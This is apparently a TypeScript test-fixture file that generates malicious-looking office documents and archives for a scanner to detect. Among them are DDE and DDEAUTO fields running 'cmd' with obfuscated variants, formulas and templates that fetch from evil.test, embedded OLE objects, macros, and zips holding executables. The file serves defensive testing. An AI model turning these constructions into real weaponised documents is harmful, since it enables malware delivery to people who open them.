import type { Made } from './active-pdfs';
import { oleOf } from './documents';
import { WORDS, latin1, PROGRAM, relation, rtf, book, sheet } from './office-parts';
import { odfOf, pptxOf, xlsxOf, zipOf } from './zips';

export const activeDocuments: readonly Made[] = [
  [
    'a sheet that asks another program',
    'lijst.xlsx',
    () =>
      xlsxOf(WORDS, {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
  ],
  [
    'a sheet that fetches when it opens',
    'lijst.xlsx',
    () =>
      xlsxOf(WORDS, {
        'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>',
      }),
  ],
  [
    'a sheet with an object that is loaded by itself',
    'lijst.xlsx',
    () => xlsxOf(WORDS, { 'xl/worksheets/sheet1.xml': '<a><oleObject autoLoad="true"/></a>' }),
  ],
  [
    'a sheet with macros of before',
    'lijst.xlsx',
    () => xlsxOf(WORDS, { 'XL/MacroSheets/sheet1.xml': '<a/>' }),
  ],
  [
    'a sheet with a formula that fetches',
    'lijst.xlsx',
    () =>
      xlsxOf(WORDS, {
        'xl/worksheets/sheet1.xml':
          '<a><c><f>IF(1,_xlfn.WEBSERVICE("https://evil.test"),2)</f></c></a>',
      }),
  ],
  [
    'an open sheet with a formula that asks another program',
    'lijst.ods',
    () =>
      odfOf('spreadsheet', {
        'styles.xml': '<a><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;1;2)"/></a>',
      }),
  ],
  [
    'a show with a video from elsewhere',
    'ik.pptx',
    () =>
      pptxOf(WORDS, { 'ppt/slides/_rels/a.rels': relation('video', 'https://evil.test/a.mp4') }),
  ],
  [
    'an open letter with an object that listens inside',
    'brief.odt',
    () =>
      odfOf('text', {
        'Object 1/content.xml':
          '<a><script:event-listener xlink:href="vnd.sun.star.script:a"/></a>',
      }),
  ],
  [
    'an open letter that asks another program',
    'brief.odt',
    () =>
      odfOf('text', {
        'styles.xml': '<a><text:dde-connection-decl office:dde-application="cmd"/></a>',
      }),
  ],
  [
    'an open sheet that asks another program',
    'lijst.ods',
    () => odfOf('spreadsheet', { 'Object 1/content.xml': '<a><office:dde-source/></a>' }),
  ],
  [
    'an open letter with an object in capitals',
    'brief.odt',
    () => odfOf('text', { 'STYLES.XML': '<draw:image xlink:href="https://evil.test/a"/>' }),
  ],
  [
    'an open letter with a font from elsewhere',
    'brief.odt',
    () =>
      odfOf('text', { 'styles.xml': '<svg:font-face-uri xlink:href="https://evil.test/a.ttf"/>' }),
  ],
  [
    'an open letter with an object of another program',
    'brief.odt',
    () => odfOf('text', { 'Object 2': oleOf('\x01Ole10Native') }),
  ],
  [
    'an open letter with a document type',
    'brief.odt',
    () => odfOf('text', { 'meta.xml': '<!DOCTYPE a><a/>' }),
  ],
  [
    'an open show with a button that starts a program',
    'ik.odp',
    () =>
      odfOf('presentation', {
        'styles.xml':
          '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>',
      }),
  ],
  [
    'rich text with DDEAUTO',
    'brief.rtf',
    () => rtf('{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt x}}'),
  ],
  [
    'rich text with DDEAUTO in groups',
    'brief.rtf',
    () => rtf('{\\field{\\*\\fldinst {DDE}{\\b AUTO cmd}}{\\fldrslt x}}'),
  ],
  [
    'rich text with DDEAUTO around what readers skip',
    'brief.rtf',
    () => rtf('{\\field{\\*\\fldinst DDE{\\*\\x x}AUTO cmd}}'),
  ],
  [
    'rich text with DDEAUTO around a comment',
    'brief.rtf',
    () => rtf('{\\field{\\*\\fldinst DDE{\\comment x}AUTO cmd}}'),
  ],
  [
    'rich text with DDEAUTO in codes',
    'brief.rtf',
    () => rtf("{\\field{\\*\\fldinst \\'44\\'44E\\u65?UTO cmd}}"),
  ],
  [
    'rich text with DDEAUTO over lines',
    'brief.rtf',
    () => rtf('{\\field{\\*\\fldinst DDE\nAUTO cmd}}'),
  ],
  [
    'rich text that fetches a picture',
    'brief.rtf',
    () => rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "https://evil.test/a.png"}}'),
  ],
  [
    'rich text with brackets that are missing',
    'brief.rtf',
    () => latin1('{\\rtf1{\\field{\\*\\fldinst DDE cmd'),
  ],
  [
    'rich text with a template on a share',
    'brief.rtf',
    () => rtf('{\\*\\template \\\\\\\\evil.test\\\\a.dotm}'),
  ],
  [
    'a letter of Word 97 with a program',
    'brief.doc',
    () => oleOf('WordDocument', 'ObjectPool/_1/\x01Ole10Native'),
  ],
  [
    'a letter of Word 97 with an equation',
    'brief.doc',
    () => oleOf('WordDocument', 'ObjectPool/_1/Equation Native'),
  ],
  [
    'a letter of Word 97 with macros in small letters',
    'brief.doc',
    () => oleOf('WordDocument', 'macros/vba/dir'),
  ],
  [
    'a letter of Word 97 with DDEAUTO',
    'brief.doc',
    () => oleOf(['WordDocument', latin1(`${' '.repeat(600)}\x13 DDEAUTO cmd \x14x\x15`)]),
  ],
  [
    'a letter of Word 97 with DDEAUTO in UTF-16',
    'brief.doc',
    () =>
      oleOf([
        'WordDocument',
        Buffer.from(`${' '.repeat(600)}\x13 DDEAUTO cmd \x14x\x15`, 'utf16le'),
      ]),
  ],
  [
    'a sheet of Excel 97 with macros of before',
    'lijst.xls',
    () => oleOf(['Workbook', book([0x809, Buffer.alloc(16)], [0x85, sheet(1)])]),
  ],
  [
    'a sheet of Excel 97 that is locked',
    'lijst.xls',
    () => oleOf(['Workbook', book([0x809, Buffer.alloc(16)], [0x2f, Buffer.alloc(6)])]),
  ],
  ...[
    ...['exe', 'js', 'lnk', 'EXE', 'vbs', 'bat', 'docm', 'lnk.', 'exe. .', 'exe:a', 'iqy', 'xll'],
    ...['settingcontent-ms', 'appref-ms', 'msc', 'py'],
  ].map((ending): Made => [
    `an archive with a ${ending}`,
    'map.zip',
    () => zipOf({ 'brief.txt': WORDS, [`map/cv.${ending}`]: 'x' }),
  ]),
  ['an archive with a program under another ending', 'map.zip', () => zipOf({ 'cv.pdf': PROGRAM })],
];
